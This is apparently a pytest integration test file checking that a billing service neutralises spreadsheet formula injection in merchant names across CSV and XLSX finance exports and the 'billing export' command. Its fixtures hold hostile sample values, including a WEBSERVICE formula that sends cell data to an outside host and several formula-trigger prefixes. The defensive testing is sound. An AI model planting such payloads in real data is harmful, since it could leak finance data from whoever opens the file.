"""A merchant's own text never becomes a live formula in finance's files: CSV text cells that a
spreadsheet would run get a leading ', XLSX holds typed string cells only (quote-prefixed where
they look like formulas), numbers stay numbers, over HTTP and ``billing export`` alike."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import re
import sys
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from httpx import AsyncClient

from service.finance import exports
from tests.integration.conftest import Tenant, signup_tenant
from tests.integration.invoicing_helpers import advance, close_pass, new_clock

FORMULA = '=WEBSERVICE("http://x/?d="&B2)'
HOSTILE_NAMES = [FORMULA, "+1+1 Shop", "-2+3 Shop", "@SUM(1,2) Shop", "\tTab Shop", "\rCR Shop"]
RANGE = {"from": "2026-03-01", "to": "2026-04-30"}


async def _hostile_merchant(client: AsyncClient, operator: Tenant, clock: str) -> Tenant:
    tenant, _ = await signup_tenant(client, operator, plan="basic", test_clock_id=clock)
    await advance(client, operator, clock, "2026-03-20T00:00:00+08:00")
    # As the issue did it: the merchant renames itself through its own key.
    renamed = await client.patch("/v1/merchants/me", json={"name": FORMULA}, headers=tenant.headers)
    assert renamed.status_code == 200, renamed.text
    batch = [
        {"transaction_id": f"{n}", "metric": "orders", "quantity": 1,
         "occurred_at": "2026-03-10T10:00:00+08:00"}
        for n in range(3)
    ]  # fmt: skip
    sent = await client.post(
        "/v1/usage/events/batch", json={"events": batch}, headers=tenant.headers
    )
    assert sent.status_code == 200, sent.text
    return tenant


@pytest.fixture(scope="module")
async def hostile(client: AsyncClient, operator: Tenant) -> Tenant:
    clock = await new_clock(client, operator, "2026-03-01T00:00:00+08:00")
    tenant = await _hostile_merchant(client, operator, clock)
    await advance(client, operator, clock, "2026-04-03T00:00:00+08:00")
    await close_pass(tenant.merchant_id)
    return tenant


async def _get(client: AsyncClient, operator: Tenant, kind: str, **params: Any) -> bytes:
    response = await client.get(
        f"/v1/finance/exports/{kind}",
        params={**RANGE, "include_test": "true", **params},
        headers=operator.headers,
    )
    assert response.status_code == 200, response.text
    return response.content


def _formula_cells(xlsx: bytes) -> list[str]:
    """Every formula in the workbook, read from the sheets' XML itself."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        return [
            found
            for name in sheets
            for found in re.findall(r"<f[ >].*?</f>", archive.read(name).decode())
        ]


@pytest.mark.parametrize("kind", ["invoices", "invoice_lines", "usage"])
async def test_a_merchant_name_formula_is_inert_in_csv_and_xlsx(
    client: AsyncClient, operator: Tenant, hostile: Tenant, kind: str
) -> None:
    merchant = {"merchant_id": str(hostile.merchant_id)}
    rows = list(
        csv.DictReader(io.StringIO((await _get(client, operator, kind, **merchant)).decode()))
    )
    assert rows
    assert {row["merchant_name"] for row in rows} == {"'" + FORMULA}

    xlsx = await _get(client, operator, kind, format="xlsx", **merchant)
    assert _formula_cells(xlsx) == []
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx))[kind]
    header = [cell.value for cell in sheet[1]]
    names = [row[header.index("merchant_name")] for row in sheet.iter_rows(min_row=2)]
    assert {(cell.value, cell.data_type, cell.quotePrefix) for cell in names} == {
        (FORMULA, "s", True)
    }


async def test_numbers_stay_numbers(client: AsyncClient, operator: Tenant, hostile: Tenant) -> None:
    merchant = {"merchant_id": str(hostile.merchant_id)}
    xlsx = await _get(client, operator, "invoices", format="xlsx", **merchant)
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx))["invoices"]
    header = [cell.value for cell in sheet[1]]
    first = next(iter(sheet.iter_rows(min_row=2)))
    total, total_minor = first[header.index("total")], first[header.index("total_minor")]
    assert (total.data_type, total_minor.data_type) == ("n", "n")
    assert Decimal(str(total.value)) == Decimal(total_minor.value) / 100
    assert first[header.index("number")].quotePrefix is False
    assert exports.csv_cell(exports.Cell.NUMBER, Decimal("-30.00")) == "-30.00"
    assert exports.csv_cell(exports.Cell.INT, -3000) == "-3000"
    for name in HOSTILE_NAMES:
        assert exports.csv_cell(exports.Cell.TEXT, name) == "'" + name
    assert exports.csv_cell(exports.Cell.TEXT, "Shop = fine") == "Shop = fine"


async def test_no_export_kind_holds_a_formula_anywhere(
    client: AsyncClient, operator: Tenant, hostile: Tenant
) -> None:
    # Every kind, every merchant in the range (the hostile one among them), every cell.
    for kind in exports.ExportKind:
        xlsx = await _get(client, operator, kind.value, format="xlsx")
        assert _formula_cells(xlsx) == [], kind
        workbook = openpyxl.load_workbook(io.BytesIO(xlsx))
        for row in workbook[kind.value].iter_rows():
            for cell in row:
                assert cell.data_type != "f", (kind, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and exports.is_formula_like(cell.value):
                    assert cell.data_type == "s"
                    assert cell.quotePrefix, (kind, cell.coordinate)
        text = (await _get(client, operator, kind.value)).decode()
        kinds = exports.cell_kinds(kind)
        for row in list(csv.reader(io.StringIO(text)))[1:]:
            for cell_kind, value in zip(kinds, row, strict=True):
                if cell_kind is exports.Cell.TEXT:
                    assert not exports.is_formula_like(value), (kind, value)


async def test_billing_export_writes_the_same_inert_cells(
    client: AsyncClient, operator: Tenant, hostile: Tenant, database_dsn: str, tmp_path: Path
) -> None:
    out = tmp_path / "invoices.csv"
    billing = str(Path(sys.executable).parent / "billing")
    env = {**os.environ, "DATABASE_URL": database_dsn, "BILLING_LOG_LEVEL": "WARNING"}
    process = await asyncio.create_subprocess_exec(
        billing, "export", "invoices", "--from", RANGE["from"], "--to", RANGE["to"],
        "--format", "csv", "--merchant", str(hostile.merchant_id), "--include-test",
        "--out", str(out),
        env=env, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT,
    )  # fmt: skip
    output, _ = await process.communicate()
    assert process.returncode == 0, output.decode()
    api = await _get(client, operator, "invoices", merchant_id=str(hostile.merchant_id))
    assert out.read_bytes() == api
    names = {row["merchant_name"] for row in csv.DictReader(io.StringIO(api.decode()))}
    assert names == {"'" + FORMULA}
